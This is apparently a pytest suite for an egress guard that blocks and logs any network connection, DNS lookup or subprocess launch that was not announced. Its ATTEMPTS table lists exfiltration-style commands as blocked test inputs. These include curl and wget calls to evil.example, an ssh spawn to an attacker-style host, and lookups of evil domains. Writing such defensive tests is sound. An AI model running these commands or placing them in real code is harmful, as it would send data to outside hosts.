"""Nothing leaves but what was announced, and what tried to is in the ledger."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable

    Shut = Callable[[str], dict[str, Any]]

# What is tried: the audit event that stops it, and what the ledger says was tried.
ATTEMPTS = {
    'socket.create_connection(("127.0.0.1", 9))': ("socket.connect", "127.0.0.1:9"),
    'socket.create_connection(("::1", 9))': ("socket.connect", "[::1]:9"),
    'socket.socket(socket.AF_UNIX).connect("/run/taro/socket")': ("socket.connect", "a Unix socket"),
    'socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"taro", "/dev/log")': (
        "socket.sendto",
        "a Unix socket",
    ),
    'socket.socket().connect_ex(("192.0.2.1", 443))': ("socket.connect", "192.0.2.1:443"),
    'socket.socket(type=socket.SOCK_DGRAM).sendto(b"taro", ("192.0.2.1", 53))': (
        "socket.sendto",
        "192.0.2.1:53",
    ),
    'socket.socket(type=socket.SOCK_DGRAM).sendmsg([b"taro"], [], 0, ("192.0.2.1", 53))': (
        "socket.sendmsg",
        "192.0.2.1:53",
    ),
    'socket.getaddrinfo("taro.yamada.evil.example", 443)': ("socket.getaddrinfo", "*.evil.example"),
    'socket.getaddrinfo(b"TARO.evil.co.jp.", None)': ("socket.getaddrinfo", "*.evil.co.jp"),
    'socket.getaddrinfo("太郎.evil.example", 443)': ("socket.getaddrinfo", "*.evil.example"),
    'socket.gethostbyname("taro.evil.example")': ("socket.gethostbyname", "*.evil.example"),
    'socket.gethostbyname_ex("taro.evil.example")': ("socket.gethostbyname", "*.evil.example"),
    'socket.gethostbyaddr("192.0.2.1")': ("socket.gethostbyaddr", "192.0.2.1"),
    'socket.getnameinfo(("192.0.2.1", 53), 0)': ("socket.getnameinfo", "192.0.2.1"),
    'urllib.request.urlopen("http://127.0.0.1:9/?taro")': ("socket.connect", "127.0.0.1:9"),
    'urllib.request.urlopen("https://taro.evil.example/")': ("socket.getaddrinfo", "*.evil.example"),
    'http.client.HTTPConnection("127.0.0.1", 9).request("GET", "/taro")': ("socket.connect", "127.0.0.1:9"),
    'asyncio.run(asyncio.open_connection("127.0.0.1", 9))': ("socket.connect", "127.0.0.1:9"),
    'asyncio.run(asyncio.open_connection("taro.evil.example", 443))': (
        "socket.getaddrinfo",
        "*.evil.example",
    ),
    'smtplib.SMTP("127.0.0.1", 9, local_hostname="shop")': ("socket.connect", "127.0.0.1:9"),
    'subprocess.run(["curl", "https://evil.example/?taro"])': ("subprocess.Popen", "curl"),
    'subprocess.run("/usr/bin/curl https://evil.example/?taro", shell=True)': ("subprocess.Popen", "sh"),
    'subprocess.Popen("/usr/bin/curl https://evil.example/?taro")': ("subprocess.Popen", "curl"),
    'subprocess.Popen([b"/bin/echo", b"taro"], executable="/usr/bin/wget")': ("subprocess.Popen", "wget"),
    'os.system("NAME=taro curl https://evil.example/")': ("os.system", "sh"),
    'os.popen("curl https://evil.example/?taro")': ("subprocess.Popen", "sh"),
    'os.posix_spawn("/usr/bin/curl", ["curl", "taro"], {})': ("os.posix_spawn", "curl"),
    'os.execv("/usr/bin/curl", ["curl", "taro"])': ("os.exec", "curl"),
    'os.execvpe("curl", ["curl", "taro"], {"PATH": "/usr/bin"})': ("os.exec", "curl"),
    'pty.spawn(["/usr/bin/ssh", "taro@evil.example"])': ("pty.spawn", "ssh"),
    'pty.spawn("ssh")': ("pty.spawn", "ssh"),
}  # fmt: skip


def test_every_way_out_is_refused_and_recorded(shut: Shut) -> None:
    calls = "\n".join(f"answers[{attempt!r}] = attempt(lambda: {attempt})" for attempt in ATTEMPTS)
    answers = shut(f"wayout.install(who)\n{calls}")
    for attempt, (event, what) in ATTEMPTS.items():
        assert answers[attempt] == ["WayOutShut", f"{event}: {what} is not announced by any door"], attempt
    assert answers["rows"] == [list(tried) for tried in ATTEMPTS.values()]


def test_the_row_says_who_and_no_value(shut: Shut) -> None:
    answers = shut("""
wayout.install(who)
attempt(lambda: socket.create_connection(("taro.evil.example", 443)))
(row,) = ledger.rows()
answers["row"] = [row.event, row.actor_kind, str(row.actor_id), row.role, row.policy_version, row.request_id]
answers["row"] += [row.outcome, row.recipient]
answers["verified"] = ledger.verify().ok
""")
    assert answers["row"] == [
        *("way_out", "staff", "0198a8f0-0000-7000-8000-000000000002", "orders", 3, "5f1e"),
        *("refused", "*.evil.example"),
    ]
    assert answers["verified"]


def test_what_stays_open(shut: Shut) -> None:
    answers = shut("""
wayout.install(who)
wayout.install(lambda: 1 / 0)                            # the second time changes nothing
answers["listen"] = Server().port > 0
answers["everywhere"] = attempt(lambda: socket.create_server(("", 0)).close())
numbers = ("127.0.0.1", "::1", None, "fe80::1%1")
answers["numbers"] = [attempt(lambda: socket.getaddrinfo(host, 80)) for host in numbers]
one, other = socket.socketpair()
one.sendmsg([b"between us"])
answers["pair"] = other.recv(99).decode()
child = os.fork()
if child == 0:
    os._exit(0 if attempt(lambda: socket.create_connection(("127.0.0.1", 9)))[0] == "WayOutShut" else 1)
answers["child"] = os.waitpid(child, 0)[1]

async def nothing():
    await asyncio.sleep(0)
    return "loop"
answers["loop"] = asyncio.run(nothing())
""")
    assert answers == {
        "listen": True,
        "everywhere": "done",
        "numbers": ["done"] * 4,
        "pair": "between us",
        "child": 0,
        "loop": "loop",
        "rows": [["socket.connect", "127.0.0.1:9"]],
    }


def test_an_announced_destination_is_reached_by_number_and_by_name(shut: Shut) -> None:
    answers = shut("""
server, other = Server(), Server()
wayout.install(who)
def get(host, port):
    return urllib.request.urlopen(f"http://{host}:{port}/").read().decode()
with wayout.announce((("127.0.0.1", server.port),)):
    answers["number"] = get("127.0.0.1", server.port)
    answers["another port"] = attempt(lambda: get("127.0.0.1", other.port))
    answers["another host"] = attempt(lambda: get("localhost", server.port))
with wayout.announce((("LOCALHOST.", server.port),)):
    answers["name"] = get("localhost", server.port)
    answers["its address"] = get("127.0.0.1", server.port)
    answers["its other port"] = attempt(lambda: get("localhost", other.port))
    answers["gethostbyname"] = socket.gethostbyname("localhost")
    answers["in C"] = attempt(lambda: socket.socket().connect(("localhost", server.port)))
    with wayout.announce(()):
        answers["inside"] = attempt(lambda: get("127.0.0.1", server.port))
    answers["outside again"] = get("127.0.0.1", server.port)
answers["after"] = attempt(lambda: get("127.0.0.1", server.port))
answers["calls"] = [server.calls, other.calls]
""")
    assert [name for name, answer in answers.items() if answer in ("hi", "done", "127.0.0.1")] == [
        *("number", "name", "its address", "gethostbyname", "in C", "outside again"),
    ]
    refused = [name for name, answer in answers.items() if answer[:1] == ["WayOutShut"]]
    assert refused == ["another port", "another host", "its other port", "inside", "after"]
    assert answers["calls"] == [5, 0]
    assert len(answers["rows"]) == len(refused)


def test_an_announcement_is_its_own_context_s_alone(shut: Shut) -> None:
    answers = shut("""
server = Server()
wayout.install(who)
def connect():
    return attempt(lambda: socket.create_connection(("127.0.0.1", server.port)).close())
found = []
with wayout.announce((("127.0.0.1", server.port),)):
    thread = threading.Thread(target=lambda: found.append(connect()))
    thread.start()
    thread.join()
    answers["here"] = connect()
    answers["to_thread"] = asyncio.run(asyncio.to_thread(connect))

async def two():
    with wayout.announce((("127.0.0.1", server.port),)):
        other = asyncio.create_task(asyncio.sleep(0))
        await other
        return connect()
async def both():
    return await asyncio.gather(two(), asyncio.to_thread(connect))
answers["tasks"] = asyncio.run(both())
answers["thread"] = found[0]
""")
    assert answers["here"] == "done"
    assert answers["to_thread"] == "done"
    assert answers["thread"][0] == "WayOutShut"
    assert answers["tasks"][0] == "done"
    assert answers["tasks"][1][0] == "WayOutShut"


def test_the_program_s_own_services_are_always_open(shut: Shut) -> None:
    answers = shut("""
server = Server()
path = os.environ["PRIVACY_TEST_HOME"] + "/own.socket"
local = Server(socket.AF_UNIX, path)
wayout.install(who, own=(("localhost", server.port),), unix_sockets=(path,))
found = []
def connect():
    found.append(attempt(lambda: socket.create_connection(("localhost", server.port)).close()))
    found.append(attempt(lambda: socket.socket(socket.AF_UNIX).connect(path)))
    found.append(attempt(lambda: socket.socket(socket.AF_UNIX).connect(path + "x"))[0])
thread = threading.Thread(target=connect)
thread.start()
thread.join()
answers["found"] = found
""")
    assert answers["found"] == ["done", "done", "WayOutShut"]
    assert answers["rows"] == [["socket.connect", "a Unix socket"]]


def test_a_program_named_from_the_beginning_is_started_word_by_word(shut: Shut) -> None:
    answers = shut("""
import sys
words = [sys.executable, "-I", "-c", "import os; print(sorted(os.environ))"]
told = {"TOLD": "this", "ZERO": "0"}
wayout.install(who, programs=(wayout.OwnProgram(tuple(words), tuple(told.items())),))
def start(words, **options):
    return subprocess.run(words, capture_output=True, text=True, **options).stdout
answers["started"] = start(words, env=told)
for name, tried in {
    "told all": lambda: start(words),
    "told more": lambda: start(words, env=told | {"NAME": "taro"}),
    "told else": lambda: start(words, env=told | {"TOLD": "taro"}),
    "told nothing": lambda: start(words, env={}),
    "one word more": lambda: start([*words, "taro"], env=told),
    "another word": lambda: start([*words[:-1], "print('taro')"], env=told),
    "another folder": lambda: start(words, env=told, cwd="/"),
    "a shell": lambda: start(words, env=told, shell=True),
    "something else of that name": lambda: start(words, env=told, executable="/bin/echo"),
    "in its own place": lambda: os.execve(words[0], words, told),
    "by another way": lambda: os.posix_spawn(words[0], words, told),
}.items():
    answers[name] = attempt(tried)[0]
""")
    rows, started = answers.pop("rows"), answers.pop("started")
    assert "'TOLD', 'ZERO'" in started
    assert "PRIVACY" not in started
    assert set(answers.values()) == {"WayOutShut"}
    assert len(rows) == len(answers) == 11


def test_databases_go_their_own_way(shut: Shut) -> None:
    """SQLite and libpq raise no events; psycopg looks a host up in Python, unless it is a number or path."""
    answers = shut("""
wayout.install(who)
from django.db import connections
connection = connections["ledger"]
with connection.cursor() as cursor:
    cursor.execute("SELECT 1")
    answers["store"] = cursor.fetchone()[0]
import psycopg
def refused(host):
    try:
        psycopg.connect(f"host={host} port=9 connect_timeout=2")
    except (psycopg.OperationalError, OSError) as error:
        return type(error).__name__
answers["number"] = refused("127.0.0.1")
answers["path"] = refused("/nowhere")
answers["name"] = refused("taro.evil.example")
""")
    assert answers["store"] == 1
    assert answers["rows"] == [["socket.getaddrinfo", "*.evil.example"]]
    assert (answers["number"], answers["path"]) == ("OperationalError", "OperationalError")


def test_a_refusal_inside_the_ledger_s_thread_does_not_wait_for_it(shut: Shut) -> None:
    answers = shut("""
from small_trades.privacy._ledger import log
settle = log.Log.settle
def trying(self, *, now=False):
    log.Log.settle = settle
    answers["tried"] = attempt(lambda: socket.create_connection(("127.0.0.1", 9)))
    settle(self, now=now)
log.Log.settle = trying
wayout.install(who)
ledger.append(ledger.Entry(event=ledger.Event.USE, actor_kind="system"))
ledger.close()
answers["verified"] = ledger.verify().ok
""")
    assert answers["tried"][0] == "WayOutShut"
    assert answers["rows"] == [["socket.connect", "127.0.0.1:9"]]
    assert answers["verified"]


def test_a_refusal_stands_when_it_cannot_be_recorded(shut: Shut) -> None:
    answers = shut("""
records = []
wayout.logger.addFilter(lambda record: records.append(record.getMessage()))
wayout.RECORD_SECONDS = 0
wayout.install(who)
with ledger._process.writer._in_use:
    answers["locked"] = attempt(lambda: socket.create_connection(("127.0.0.1", 9)))
answers["said"] = records
""")
    assert answers["locked"][0] == "WayOutShut"
    assert answers["said"] == [
        "a way out was refused, and the row is not durable: the ledger did not answer in time"
    ]
    assert answers["rows"] == [["socket.connect", "127.0.0.1:9"]]


def test_what_is_tried_while_recording_is_refused_without_a_row(shut: Shut) -> None:
    answers = shut("""
def curious():
    answers["inner"] = attempt(lambda: socket.gethostbyname("taro.evil.example"))
    return who()
wayout.install(curious)
answers["outer"] = attempt(lambda: socket.create_connection(("127.0.0.1", 9)))
""")
    assert answers["inner"][0] == answers["outer"][0] == "WayOutShut"
    assert answers["rows"] == [["socket.connect", "127.0.0.1:9"]]


def test_before_it_is_installed_nothing_is_shut(shut: Shut) -> None:
    answers = shut("""
server = Server()
answers["before"] = attempt(lambda: socket.create_connection(("127.0.0.1", server.port)).close())
with wayout.announce((("smtp.example.com", 25),)):
    answers["announced"] = attempt(lambda: socket.create_connection(("127.0.0.1", server.port)).close())
""")
    assert answers == {"before": "done", "announced": "done", "rows": []}
